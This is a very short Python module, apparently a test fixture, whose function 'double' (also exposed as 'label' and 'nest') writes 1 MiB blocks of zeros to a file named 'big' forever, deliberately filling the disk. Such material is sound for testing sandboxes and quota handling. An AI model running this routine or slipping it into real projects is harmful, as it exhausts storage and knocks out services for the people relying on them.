"""Fills its folder."""


def double(*args, **kwargs):
    with open("big", "wb", buffering=0) as big:
        while True:
            big.write(bytes(1 << 20))


label = nest = double
